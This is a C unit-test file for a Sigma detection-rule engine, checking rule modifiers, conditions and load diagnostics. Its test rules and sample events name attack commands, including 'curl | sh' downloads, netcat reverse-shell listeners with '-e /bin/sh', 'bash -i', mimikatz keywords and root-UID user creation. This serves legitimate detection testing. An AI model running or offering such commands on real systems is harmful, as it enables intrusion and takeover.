/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The Sigma engine with rules of our own: every modifier and condition form
 * the specification has, the odd values SigmaHQ's Linux rules use, and the
 * diagnostics of rules that cannot load (file, line, why).
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "agent/rules.h"

/* ---- helpers ---- */

struct hits {
	char ids[16][64];
	uint32_t matched[16];
	size_t n;
};

static void on_hit(const struct rules_rule *r, uint32_t matched, void *userdata)
{
	struct hits *h = userdata;

	if (h->n < 16) {
		snprintf(h->ids[h->n], sizeof(h->ids[h->n]), "%s", r->id ? r->id : r->title);
		h->matched[h->n++] = matched;
	}
}

static struct rules_engine *load(const char *yaml, struct rules_report *rep)
{
	struct rules_engine *e = NULL;

	memset(rep, 0, sizeof(*rep));
	assert_int_equal(rules_load_buffer("test.yml", yaml, strlen(yaml), &e, rep), 0);
	assert_non_null(e);
	return e;
}

/* One rule that must load. */
static struct rules_engine *load1(const char *yaml)
{
	struct rules_report rep;
	struct rules_engine *e = load(yaml, &rep);

	if (rep.n != 1 || rep.entries[0].status != RULES_LOADED)
		fail_msg("rule did not load: %s (line %u)", rep.n ? rep.entries[0].reason : "no entry",
			 rep.n ? rep.entries[0].line : 0);
	rules_report_done(&rep);
	return e;
}

/* ev(category, "Field", "value", ..., NULL) */
static struct rules_event ev(enum rules_category c, ...)
{
	struct rules_event x = {.category = c};
	va_list ap;
	const char *name;

	va_start(ap, c);
	while ((name = va_arg(ap, const char *))) {
		const char *v = va_arg(ap, const char *);
		int f = rules_field_from_name(name);

		assert_true(f >= 0);
		x.value[f] = v;
		x.len[f] = v ? (uint32_t)strlen(v) : 0;
	}
	va_end(ap);
	return x;
}

static size_t count(struct rules_engine *e, struct rules_event x)
{
	struct hits h = {};

	return rules_match(e, &x, on_hit, &h);
}

#define PROC(...) ev(RULES_CAT_PROCESS_CREATION, __VA_ARGS__, NULL)
#define NET(...) ev(RULES_CAT_NETWORK_CONNECTION, __VA_ARGS__, NULL)

#define HEAD                                                                                                           \
	"title: t\n"                                                                                                   \
	"id: 11111111-2222-3333-4444-555555555555\n"                                                                   \
	"level: high\n"                                                                                                \
	"logsource:\n"                                                                                                 \
	"  product: linux\n"                                                                                           \
	"  category: process_creation\n"                                                                               \
	"detection:\n"

#define NETHEAD                                                                                                        \
	"title: n\n"                                                                                                   \
	"logsource:\n"                                                                                                 \
	"  product: linux\n"                                                                                           \
	"  category: network_connection\n"                                                                             \
	"detection:\n"

/* ---- values ---- */

static void test_equality_case_insensitive(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    Image: '/usr/bin/Bash'\n  condition: sel\n");

	assert_int_equal(count(e, PROC("Image", "/usr/bin/bash")), 1);
	assert_int_equal(count(e, PROC("Image", "/USR/BIN/BASH")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/bash2")), 0);
	assert_int_equal(count(e, PROC("Image", "x/usr/bin/bash")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "/usr/bin/bash")), 0); /* another field */
	assert_int_equal(count(e, ev(RULES_CAT_FILE_EVENT, "Image", "/usr/bin/bash", NULL)), 0);
	rules_free(e);
}

static void test_wildcards(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    CommandLine:\n      - 'curl * | sh'\n      - 'ba?h -i'\n"
					    "  condition: sel\n");

	assert_int_equal(count(e, PROC("CommandLine", "curl http://x/y | sh")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "curl  | sh")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "curl x | sh -x")), 0); /* anchored at the end */
	assert_int_equal(count(e, PROC("CommandLine", "bash -i")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "ba\xc3\xa9h -i")), 1); /* '?' is one character */
	assert_int_equal(count(e, PROC("CommandLine", "bah -i")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "baaah -i")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "curl a\nb | sh")), 1); /* '*' crosses lines */
	rules_free(e);
}

/* pySigma's escapes: \* and \? are the characters, \\ a backslash, any
 * other backslash itself. */
static void test_escapes(void **state)
{
	struct rules_engine *e = load1(HEAD "  a:\n    CommandLine: 'echo \\*'\n"
					    "  b:\n    CommandLine: 'x\\\\*'\n"
					    "  c:\n    CommandLine: 'C:\\Windows'\n"
					    "  d:\n    CommandLine: 'what\\?'\n"
					    "  condition: 1 of them\n");

	assert_int_equal(count(e, PROC("CommandLine", "echo *")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "echo x")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "x\\anything")), 1); /* backslash, then a wildcard */
	assert_int_equal(count(e, PROC("CommandLine", "xanything")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "C:\\Windows")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "what?")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "whatx")), 0);
	rules_free(e);
}

/* SigmaHQ's odd values: spaces at the ends, quotes, '*' inside a value,
 * a lone '*', numbers as values. */
static void test_odd_values(void **state)
{
	struct rules_engine *e = load1(HEAD "  spaces:\n    CommandLine|contains: ' -e '\n"
					    "  trailing:\n    CommandLine|endswith: '/bin/sh '\n"
					    "  quotes:\n    CommandLine|contains:\n      - '\"'\n      - \"'\"\n"
					    "  inner:\n    CommandLine|contains: '/tmp/*/x'\n"
					    "  condition: 1 of them\n");

	assert_int_equal(count(e, PROC("CommandLine", "nc 1.2.3.4 80 -e /bin/sh")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "nc -ex")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "run /bin/sh ")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "run /bin/sh")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "echo \"a\"")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "echo 'a'")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "cat /tmp/abc/def/x")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "cat /tmp/x")), 0);
	rules_free(e);

	e = load1(HEAD "  sel:\n    ParentImage: '*'\n    LogonId: 0\n  condition: sel\n");
	assert_int_equal(count(e, PROC("ParentImage", "", "LogonId", "0")), 1); /* '*' matches any value */
	assert_int_equal(count(e, PROC("LogonId", "0")), 0);			/* but not none */
	assert_int_equal(count(e, PROC("ParentImage", "/x", "LogonId", "1000")), 0);
	rules_free(e);
}

static void test_contains_startswith_endswith_all(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    Image|endswith: '/nc'\n    CommandLine|startswith: 'nc '\n"
					    "    CommandLine|contains|all:\n      - ' -l'\n      - ' -p'\n"
					    "  condition: sel\n");

	assert_int_equal(count(e, PROC("Image", "/usr/bin/nc", "CommandLine", "nc -l -p 4444")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/nc", "CommandLine", "nc -p 4444 -l")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/nc", "CommandLine", "nc -l 4444")), 0); /* all */
	assert_int_equal(count(e, PROC("Image", "/usr/bin/ncat", "CommandLine", "nc -l -p 1")), 0);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/nc", "CommandLine", "xnc -l -p 1")), 0);
	rules_free(e);
}

static void test_re(void **state)
{
	struct rules_engine *e;

	e = load1(HEAD "  sel:\n    CommandLine|re: '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'\n  condition: sel\n");
	assert_int_equal(count(e, PROC("CommandLine", "ls -la -i /")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "ls --inode /")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "ls -la /")), 0);
	rules_free(e);
	/* case-sensitive by default; (?i) inline; |i */
	e = load1(HEAD "  a:\n    CommandLine|re: '\\s-O\\s'\n  b:\n    Image|re: '(?i)/BUSYBOX$'\n"
		       "  c:\n    CurrentDirectory|re|i: '^/TMP/'\n  condition: 1 of them\n");
	assert_int_equal(count(e, PROC("CommandLine", "wget -O x")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "wget -o x")), 0);
	assert_int_equal(count(e, PROC("Image", "/bin/busybox")), 1);
	assert_int_equal(count(e, PROC("CurrentDirectory", "/tmp/x")), 1);
	assert_int_equal(count(e, PROC("CurrentDirectory", "/var/tmp/x")), 0);
	rules_free(e);
	/* |m: ^ and $ at lines; |s: . matches a newline */
	e = load1(HEAD "  a:\n    CommandLine|re|m: '^exec$'\n  b:\n    CommandLine|re|s: 'start.end'\n"
		       "  condition: 1 of them\n");
	assert_int_equal(count(e, PROC("CommandLine", "sh -c 'x\nexec\ny'")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "start\nend")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "sh -c 'x exec y'")), 0);
	rules_free(e);
	/* what Hyperscan cannot run exactly: PCRE2 decides */
	e = load1(HEAD "  a:\n    CommandLine|re: '(ab)\\1'\n  b:\n    CommandLine|re: 'foo(?=bar)'\n"
		       "  condition: 1 of them\n");
	assert_int_equal(count(e, PROC("CommandLine", "xababy")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "xabacy")), 0);
	assert_int_equal(count(e, PROC("CommandLine", "foobar")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "foobaz")), 0);
	rules_free(e);
	/* SigmaHQ's long bounded repeat */
	e = load1(HEAD "  a:\n    CommandLine|re: '(.){200,}'\n  condition: a\n");
	{
		char long_line[260];

		memset(long_line, 'a', sizeof(long_line) - 1);
		long_line[sizeof(long_line) - 1] = '\0';
		assert_int_equal(count(e, PROC("CommandLine", long_line)), 1);
		long_line[150] = '\0';
		assert_int_equal(count(e, PROC("CommandLine", long_line)), 0);
	}
	rules_free(e);
}

static void test_cidr(void **state)
{
	struct rules_engine *e = load1(NETHEAD "  sel:\n    Initiated: 'true'\n"
					       "  local:\n    DestinationIp|cidr:\n      - '127.0.0.0/8'\n"
					       "      - '172.16.0.0/12'\n      - 'fe80::/10'\n      - '::1/128'\n"
					       "  condition: sel and not local\n");

	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "203.0.113.7")), 1);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "127.1.2.3")), 0);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "172.31.255.1")), 0);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "172.32.0.1")), 1);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "fe80::1")), 0);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "fec0::1")), 1);
	assert_int_equal(count(e, NET("Initiated", "true", "DestinationIp", "::1")), 0);
	assert_int_equal(count(e, NET("Initiated", "false", "DestinationIp", "203.0.113.7")), 0);
	rules_free(e);
}

static void test_windash(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    CommandLine|windash|contains: ' -p '\n  condition: sel\n");

	assert_int_equal(count(e, PROC("CommandLine", "x -p 1")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "x /p 1")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "x \xe2\x80\x93p 1")), 1); /* en dash */
	assert_int_equal(count(e, PROC("CommandLine", "x \xe2\x80\x94p 1")), 1); /* em dash */
	assert_int_equal(count(e, PROC("CommandLine", "x \xe2\x80\x95p 1")), 1); /* horizontal bar */
	assert_int_equal(count(e, PROC("CommandLine", "x +p 1")), 0);
	rules_free(e);
}

static void test_base64(void **state)
{
	struct rules_engine *e = load1(HEAD "  a:\n    CommandLine|base64|contains: 'whoami'\n"
					    "  b:\n    CommandLine|base64offset|contains: 'http://'\n"
					    "  condition: 1 of them\n");

	assert_int_equal(count(e, PROC("CommandLine", "echo d2hvYW1p | base64 -d")), 1);
	/* "http://" at offsets 0, 1, 2 of an encoded text */
	assert_int_equal(count(e, PROC("CommandLine", "echo aHR0cDovL2V2aWw= | base64 -d")), 1);     /* http://evil */
	assert_int_equal(count(e, PROC("CommandLine", "echo eGh0dHA6Ly9ldmls | base64 -d")), 1);     /* xhttp://evil */
	assert_int_equal(count(e, PROC("CommandLine", "echo eHhodHRwOi8vZXZpbA== | base64 -d")), 1); /* xxhttp://evil */
	assert_int_equal(count(e, PROC("CommandLine", "echo aHR0cHM6Ly9ldmls | base64 -d")), 0);     /* https://evil */
	rules_free(e);
}

static void test_exists_null_empty(void **state)
{
	struct rules_engine *e;

	e = load1(HEAD "  sel:\n    CurrentDirectory|exists: true\n    ParentImage|exists: false\n  condition: sel\n");
	assert_int_equal(count(e, PROC("CurrentDirectory", "/")), 1);
	assert_int_equal(count(e, PROC("CurrentDirectory", "")), 1); /* present, if empty */
	assert_int_equal(count(e, PROC("CurrentDirectory", "/", "ParentImage", "/sbin/init")), 0);
	assert_int_equal(count(e, PROC("Image", "/x")), 0);
	rules_free(e);
	e = load1(HEAD "  sel:\n    Image|endswith: '/sh'\n  nop:\n    ParentImage: null\n"
		       "  empty:\n    CommandLine: ''\n  condition: sel and (nop or empty)\n");
	assert_int_equal(count(e, PROC("Image", "/bin/sh")), 1);
	assert_int_equal(count(e, PROC("Image", "/bin/sh", "ParentImage", "/bin/x", "CommandLine", "")), 1);
	assert_int_equal(count(e, PROC("Image", "/bin/sh", "ParentImage", "/bin/x", "CommandLine", "sh")), 0);
	rules_free(e);
}

static void test_cased(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    Image|cased: '/usr/bin/Foo'\n  condition: sel\n");

	assert_int_equal(count(e, PROC("Image", "/usr/bin/Foo")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/foo")), 0);
	rules_free(e);
}

static void test_numbers_neq(void **state)
{
	struct rules_engine *e;

	e = load1(HEAD "  a:\n    ProcessId|lt: 100\n  b:\n    ParentProcessId|gte: 5000\n"
		       "  c:\n    LogonId|lte: 0\n  d:\n    ProcessId|gt: 1e6\n  condition: 1 of them\n");
	assert_int_equal(count(e, PROC("ProcessId", "99")), 1);
	assert_int_equal(count(e, PROC("ProcessId", "100")), 0);
	assert_int_equal(count(e, PROC("ParentProcessId", "5000")), 1);
	assert_int_equal(count(e, PROC("LogonId", "0")), 1);
	assert_int_equal(count(e, PROC("ProcessId", "1000001")), 1);
	assert_int_equal(count(e, PROC("ProcessId", "abc")), 0);
	rules_free(e);
	e = load1(HEAD "  sel:\n    User|neq:\n      - root\n      - daemon\n  condition: sel\n");
	assert_int_equal(count(e, PROC("User", "alice")), 1);
	assert_int_equal(count(e, PROC("User", "ROOT")), 0); /* case-insensitive too */
	assert_int_equal(count(e, PROC("User", "daemon")), 0);
	assert_int_equal(count(e, PROC("Image", "/x")), 0); /* no value is not a different value */
	rules_free(e);
}

static void test_keywords(void **state)
{
	struct rules_engine *e;

	e = load1(HEAD "  keywords:\n    - 'mimikatz'\n    - 'sekurlsa::'\n  condition: keywords\n");
	assert_int_equal(count(e, PROC("CommandLine", "run MIMIKATZ now")), 1);
	assert_int_equal(count(e, PROC("Image", "/tmp/sekurlsa::x")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "nothing")), 0);
	rules_free(e);
	e = load1(HEAD "  keywords:\n    '|all':\n      - 'useradd'\n      - ' -o '\n  condition: keywords\n");
	assert_int_equal(count(e, PROC("CommandLine", "useradd -o -u 0 x")), 1);
	assert_int_equal(count(e, PROC("CommandLine", "useradd x")), 0);
	rules_free(e);
}

/* ---- conditions ---- */

static void test_conditions(void **state)
{
	struct rules_engine *e;

	e = load1(HEAD "  selection_a:\n    Image|endswith: '/a'\n  selection_b:\n    Image|endswith: '/b'\n"
		       "  filter_x:\n    CommandLine|contains: 'x'\n  _private:\n    Image|endswith: '/p'\n"
		       "  condition: (1 of selection_* and not filter_x) or _private\n");
	assert_int_equal(count(e, PROC("Image", "/bin/a", "CommandLine", "y")), 1);
	assert_int_equal(count(e, PROC("Image", "/bin/b", "CommandLine", "y")), 1);
	assert_int_equal(count(e, PROC("Image", "/bin/a", "CommandLine", "x")), 0);
	assert_int_equal(count(e, PROC("Image", "/bin/p", "CommandLine", "x")), 1);
	rules_free(e);
	e = load1(HEAD "  sel1:\n    Image|contains: 'a'\n  sel2:\n    Image|contains: 'b'\n"
		       "  _not_in_them:\n    Image|contains: 'c'\n  condition: all of them\n");
	assert_int_equal(count(e, PROC("Image", "ab")), 1);
	assert_int_equal(count(e, PROC("Image", "a")), 0);
	rules_free(e);
	e = load1(HEAD "  sel1:\n    Image|contains: 'a'\n  sel2:\n    Image|contains: 'b'\n"
		       "  condition: all of sel*\n");
	assert_int_equal(count(e, PROC("Image", "ba")), 1);
	assert_int_equal(count(e, PROC("Image", "b")), 0);
	rules_free(e);
	/* precedence: not > and > or; keywords in any case; multi-line text */
	e = load1(HEAD "  a:\n    Image: a\n  b:\n    Image: b\n  c:\n    CommandLine: c\n"
		       "  condition: >-\n    a OR b\n    AND NOT c\n");
	assert_int_equal(count(e, PROC("Image", "a", "CommandLine", "c")), 1);
	assert_int_equal(count(e, PROC("Image", "b", "CommandLine", "c")), 0);
	assert_int_equal(count(e, PROC("Image", "b", "CommandLine", "d")), 1);
	rules_free(e);
	/* a list of conditions: any of them */
	e = load1(HEAD "  a:\n    Image: a\n  b:\n    Image: b\n  condition:\n    - a\n    - b\n");
	assert_int_equal(count(e, PROC("Image", "b")), 1);
	assert_int_equal(count(e, PROC("Image", "c")), 0);
	rules_free(e);
	/* only a negation: runs on records no pattern matched */
	e = load1(HEAD "  filter:\n    Image|startswith: '/usr/'\n  condition: not filter\n");
	assert_int_equal(count(e, PROC("Image", "/tmp/x")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/x")), 0);
	rules_free(e);
}

static void test_list_of_maps(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    - Image|endswith: '/wget'\n      CommandLine|contains: ' -O'\n"
					    "    - Image|endswith: '/curl'\n      CommandLine|contains: ' -o'\n"
					    "  condition: sel\n");

	assert_int_equal(count(e, PROC("Image", "/usr/bin/wget", "CommandLine", "wget -O x")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/curl", "CommandLine", "curl -o x")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/curl", "CommandLine", "curl -s x")), 0);
	rules_free(e);
}

/* A long list ANDed with a selective conjunct is scanned only on records
 * that conjunct matched (its own database): same results, and the fields
 * that matched still name it. */
static void test_deferred_list(void **state)
{
	struct rules_engine *e =
	    load1(HEAD "  img:\n    Image|endswith: ['/npm', '/node']\n"
		       "  pkgs:\n    CommandLine|contains:\n      - 'evil-a@1'\n      - 'evil-b@2'\n"
		       "      - 'evil-c@3'\n      - 'evil-d@4'\n      - 'evil-e@5'\n      - 'evil-f@6'\n"
		       "      - 'evil-g@7'\n      - 'evil-h@8'\n      - 'EVIL-I@9'\n"
		       "  other:\n    CommandLine|contains: 'evil-c@3'\n    User: mallory\n"
		       "  condition: (img and pkgs) or other\n");
	struct rules_event x = PROC("Image", "/usr/bin/npm", "CommandLine", "npm install evil-i@9");
	struct hits h = {};

	assert_int_equal(rules_match(e, &x, on_hit, &h), 1);
	assert_int_equal(h.matched[0], (1u << RF_IMAGE) | (1u << RF_COMMAND_LINE));
	assert_int_equal(count(e, PROC("Image", "/usr/bin/npm", "CommandLine", "npm install evil-c@3")), 1);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/npm", "CommandLine", "npm install good@1")), 0);
	assert_int_equal(count(e, PROC("Image", "/usr/bin/curl", "CommandLine", "x evil-a@1")), 0);
	/* a pattern of the list is also another selection's: still seen there */
	assert_int_equal(count(e, PROC("Image", "/bin/sh", "CommandLine", "x evil-c@3", "User", "mallory")), 1);
	rules_free(e);
	/* |all and single values deferred the same way */
	e = load1(HEAD "  img:\n    Image|endswith: '/nc'\n  cli:\n    CommandLine|contains|all: [' -e ', ' -l']\n"
		       "  port:\n    CommandLine|endswith: ' 4444'\n  condition: img and cli and port\n");
	assert_int_equal(count(e, PROC("Image", "/bin/nc", "CommandLine", "nc -l -e /bin/sh 4444")), 1);
	assert_int_equal(count(e, PROC("Image", "/bin/nc", "CommandLine", "nc -e /bin/sh 4444")), 0);
	assert_int_equal(count(e, PROC("Image", "/bin/nc", "CommandLine", "nc -l -e /bin/sh 4445")), 0);
	assert_int_equal(count(e, PROC("Image", "/bin/ncx", "CommandLine", "nc -l -e /bin/sh 4444")), 0);
	rules_free(e);
}

/* A hit names the rule and the fields that matched. */
static void test_hit(void **state)
{
	struct rules_engine *e = load1(HEAD "  sel:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n"
					    "  filter:\n    User: nobody\n  condition: sel and not filter\n");
	struct rules_event x = PROC("Image", "/bin/nc", "CommandLine", "nc -e /bin/sh", "User", "root");
	struct hits h = {};

	assert_int_equal(rules_match(e, &x, on_hit, &h), 1);
	assert_string_equal(h.ids[0], "11111111-2222-3333-4444-555555555555");
	assert_int_equal(h.matched[0], (1u << RF_IMAGE) | (1u << RF_COMMAND_LINE));
	assert_int_equal(rules_count(e), 1);
	rules_free(e);
}

/* ---- loading ---- */

static const struct rules_report_entry *entry(const struct rules_report *rep, size_t i)
{
	assert_true(i < rep->n);
	return &rep->entries[i];
}

static void test_several_rules_and_documents(void **state)
{
	struct rules_report rep;
	struct rules_engine *e = load(HEAD "  sel:\n    Image: /bin/a\n  condition: sel\n"
					   "---\n" HEAD "  sel:\n    Image: /bin/b\n  condition: sel\n"
					   "---\n" HEAD "  sel:\n    Image|nosuch: /bin/c\n  condition: sel\n",
				      &rep);

	/* in file order, each with the line of its document or of its error */
	assert_int_equal(rep.n, 3);
	assert_int_equal(entry(&rep, 0)->status, RULES_LOADED);
	assert_int_equal(entry(&rep, 0)->line, 1);
	assert_int_equal(entry(&rep, 1)->status, RULES_LOADED);
	assert_int_equal(entry(&rep, 1)->line, 12);
	assert_int_equal(entry(&rep, 2)->status, RULES_ERROR);
	assert_int_equal(entry(&rep, 2)->line, 31);
	assert_string_equal(entry(&rep, 2)->reason, "unknown modifier 'nosuch'");
	assert_string_equal(entry(&rep, 2)->title, "t");
	assert_int_equal(rep.count[RULES_CAT_PROCESS_CREATION][RULES_LOADED], 2);
	assert_int_equal(rep.count[RULES_CAT_PROCESS_CREATION][RULES_ERROR], 1);
	assert_int_equal(rules_count(e), 2);
	assert_int_equal(count(e, PROC("Image", "/bin/b")), 1);
	rules_free(e);
	rules_report_done(&rep);
}

static void expect_diag(const char *yaml, enum rules_status status, unsigned line, const char *reason_part)
{
	struct rules_report rep;
	struct rules_engine *e = load(yaml, &rep);

	if (rep.n != 1)
		fail_msg("%zu report entries", rep.n);
	if (rep.entries[0].status != status || !rep.entries[0].reason || !strstr(rep.entries[0].reason, reason_part) ||
	    (line && rep.entries[0].line != line))
		fail_msg("got %s at line %u: %s; wanted %s at line %u: %s", rules_status_name(rep.entries[0].status),
			 rep.entries[0].line, rep.entries[0].reason ?: "(none)", rules_status_name(status), line,
			 reason_part);
	assert_int_equal(rules_count(e), 0);
	rules_free(e);
	rules_report_done(&rep);
}

static void test_errors(void **state)
{
	expect_diag("title: t\nlogsource: [\n", RULES_ERROR, 0, "YAML");
	expect_diag(HEAD "  sel:\n    CommandLine|re: 'a(b'\n  condition: sel\n", RULES_ERROR, 9, "offset 3");
	expect_diag(HEAD "  sel:\n    Image: x\n  condition: sel and nosuch\n", RULES_ERROR, 10,
		    "'nosuch' is not a search identifier");
	expect_diag(HEAD "  sel:\n    Image: x\n  condition: 1 of filter_*\n", RULES_ERROR, 10,
		    "matches no search identifier");
	expect_diag(HEAD "  sel:\n    Image: x\n  condition: sel and (sel\n", RULES_ERROR, 10, "expected ')'");
	expect_diag(HEAD "  sel:\n    Image: x\n", RULES_ERROR, 8, "'condition' is missing");
	expect_diag(HEAD "  sel:\n    CommandLine|base64: 'a*b'\n  condition: sel\n", RULES_ERROR, 9, "wildcards");
	expect_diag(HEAD "  sel:\n    Image: x\n    Image: y\n  condition: sel\n", RULES_ERROR, 10, "duplicate key");
	expect_diag(HEAD "  sel:\n    ProcessId|lt: many\n  condition: sel\n", RULES_ERROR, 9, "number");
	expect_diag(HEAD "  sel:\n    Image|contains|re: x\n  condition: sel\n", RULES_ERROR, 9, "do not combine");
	expect_diag(HEAD "  sel:\n    Image|exists: maybe\n  condition: sel\n", RULES_ERROR, 9, "true or false");
	expect_diag("title: t\nlevel: severe\nlogsource:\n  category: process_creation\ndetection:\n  s:\n"
		    "    Image: x\n  condition: s\n",
		    RULES_ERROR, 2, "level 'severe'");
	expect_diag("id: x\nlogsource:\n  category: process_creation\ndetection:\n  s:\n    Image: x\n  condition: s\n",
		    RULES_ERROR, 1, "'title' is missing");
	expect_diag(NETHEAD "  sel:\n    DestinationIp|cidr: 300.1.1.1/8\n  condition: sel\n", RULES_ERROR, 7,
		    "not an IPv4 or IPv6 network");
}

static void test_unsupported(void **state)
{
	expect_diag(NETHEAD "  sel:\n    DestinationHostname|endswith: '.ngrok.io'\n  condition: sel\n",
		    RULES_UNSUPPORTED, 7, "the agent does not resolve names");
	expect_diag(HEAD "  sel:\n    OriginalFileName: x\n  condition: sel\n", RULES_UNSUPPORTED, 9,
		    "OriginalFileName");
	expect_diag(HEAD "  sel:\n    TargetFilename: x\n  condition: sel\n", RULES_UNSUPPORTED, 9,
		    "no record of this category");
	expect_diag(HEAD "  sel:\n    CommandLine|expand: '%Admins%'\n  condition: sel\n", RULES_UNSUPPORTED, 9,
		    "placeholders");
	expect_diag(HEAD "  sel:\n    Image: x\n  timeframe: 5m\n  condition: sel | count() > 5\n", RULES_UNSUPPORTED,
		    10, "timeframe");
	expect_diag(HEAD "  sel:\n    Image: x\n  condition: sel | count() > 5\n", RULES_UNSUPPORTED, 10,
		    "aggregations");
	expect_diag("title: w\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n"
		    "    Image: x\n  condition: s\n",
		    RULES_UNSUPPORTED, 3, "product 'windows'");
	expect_diag("title: a\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  s:\n"
		    "    type: EXECVE\n  condition: s\n",
		    RULES_UNSUPPORTED, 3, "service 'auditd'");
	expect_diag("title: a\nlogsource:\n  product: linux\n  category: file_change\ndetection:\n  s:\n"
		    "    TargetFilename: x\n  condition: s\n",
		    RULES_UNSUPPORTED, 3, "category 'file_change'");
}

static void test_files_and_directories(void **state)
{
	char dir[] = "/tmp/test-rules-XXXXXX", path[512];
	const char *paths[2];
	struct rules_report rep = {};
	struct rules_engine *e = NULL;
	FILE *f;

	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/sub", dir);
	assert_int_equal(mkdir(path, 0700), 0);
	snprintf(path, sizeof(path), "%s/sub/a.yml", dir);
	f = fopen(path, "w");
	fputs(HEAD "  sel:\n    Image: /bin/a\n  condition: sel\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/b.yaml", dir);
	f = fopen(path, "w");
	fputs(HEAD "  sel:\n    Image: /bin/b\n  condition: sel\n", f);
	fclose(f);
	snprintf(path, sizeof(path), "%s/notes.txt", dir); /* not a rule file */
	f = fopen(path, "w");
	fputs("not yaml: [", f);
	fclose(f);
	paths[0] = dir;
	paths[1] = "/nonexistent/rules.yml";
	assert_int_equal(rules_load(paths, 2, &e, &rep), 0);
	assert_int_equal(rules_count(e), 2);
	assert_int_equal(rep.count[_RULES_CAT_MAX][RULES_ERROR], 1);
	for (size_t i = 0; i < rep.n; i++)
		if (rep.entries[i].status == RULES_ERROR) {
			assert_string_equal(rep.entries[i].file, "/nonexistent/rules.yml");
			assert_non_null(strstr(rep.entries[i].reason, "No such file"));
		}
	assert_int_equal(count(e, PROC("Image", "/bin/a")), 1);
	rules_free(e);
	rules_report_done(&rep);
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

static void test_names(void **state)
{
	for (int c = 0; c < _RULES_CAT_MAX; c++)
		assert_int_equal(rules_category_from_name(rules_category_name(c)), c);
	for (int f = 0; f < _RF_MAX; f++) {
		assert_int_equal(rules_field_from_name(rules_field_name(f)), f);
		assert_true(rules_field_categories(f) != 0);
	}
	for (int l = 0; l < _RULES_LEVEL_MAX; l++)
		assert_non_null(rules_level_name(l));
	for (int s = 0; s < _RULES_STATUS_MAX; s++)
		assert_non_null(rules_status_name(s));
	assert_null(rules_category_name(_RULES_CAT_MAX));
	assert_int_equal(rules_field_from_name("Nope"), -EINVAL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_equality_case_insensitive),
	    cmocka_unit_test(test_wildcards),
	    cmocka_unit_test(test_escapes),
	    cmocka_unit_test(test_odd_values),
	    cmocka_unit_test(test_contains_startswith_endswith_all),
	    cmocka_unit_test(test_re),
	    cmocka_unit_test(test_cidr),
	    cmocka_unit_test(test_windash),
	    cmocka_unit_test(test_base64),
	    cmocka_unit_test(test_exists_null_empty),
	    cmocka_unit_test(test_cased),
	    cmocka_unit_test(test_numbers_neq),
	    cmocka_unit_test(test_keywords),
	    cmocka_unit_test(test_conditions),
	    cmocka_unit_test(test_list_of_maps),
	    cmocka_unit_test(test_deferred_list),
	    cmocka_unit_test(test_hit),
	    cmocka_unit_test(test_several_rules_and_documents),
	    cmocka_unit_test(test_errors),
	    cmocka_unit_test(test_unsupported),
	    cmocka_unit_test(test_files_and_directories),
	    cmocka_unit_test(test_names),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
